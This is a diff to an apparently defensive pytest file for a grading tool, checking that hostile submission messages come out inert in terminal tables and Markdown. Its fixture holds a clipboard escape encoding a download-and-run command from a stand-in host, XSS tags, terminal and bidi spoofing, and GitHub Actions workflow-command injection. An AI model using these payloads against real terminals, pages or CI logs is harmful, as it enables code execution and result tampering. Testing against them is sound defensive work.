@@ -20,7 +20,8 @@ pytestmark = pytest.mark.slow
 HOSTILE_MESSAGE = (r"'\x1b[2J\x1b[H\x1b]52;c;Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlIHwgc2g=\x07'"
                    r"'\n\x1b[32malice: 18/18\x1b[0m\x9b31m \u202eevil\u200b'"
                    r"'<script>alert(1)</script><img src=x onerror=alert(2)>'"
-                   r"'\n| alice | 18 / 18 | passed |\n'")
+                   r"'\n| alice | 18 / 18 | passed |\n'"
+                   r"'::stop-commands::x\n::add-mask::alice\n'")
 HOSTILE_LOSS = '''
 
 def _hostile_loss(self, *args, **kwargs):
@@ -61,6 +62,8 @@ def test_terminal_table_and_messages_carry_no_escape(graded):
         assert not CONTROL.search(stream), repr(CONTROL.search(stream))
     # Only a submission's own line starts at the margin: no fake "alice: 18/18".
     assert not re.search(r'^alice', done.stdout, re.M)
+    # Nor a line that GitHub Actions would run as a workflow command.
+    assert not re.search(r'^\s*::', done.stdout, re.M)
     assert re.search(r'^not gradable: eve.*\(.*class/eve', done.stderr, re.M)
 
 
@@ -78,6 +81,7 @@ def assert_inert_markdown(text):
     """No HTML, no fake row, no escape, rendered or raw."""
     assert '<script' not in text and '<img' not in text and not CONTROL.search(text)
     assert not re.search(r'^\| alice', text, re.M)
+    assert not re.search(r'^\s*::', text, re.M)       # no workflow command in a CI log
     mistune = pytest.importorskip('mistune')
     html = mistune.html(text)
     assert '<script' not in html and '<img' not in html
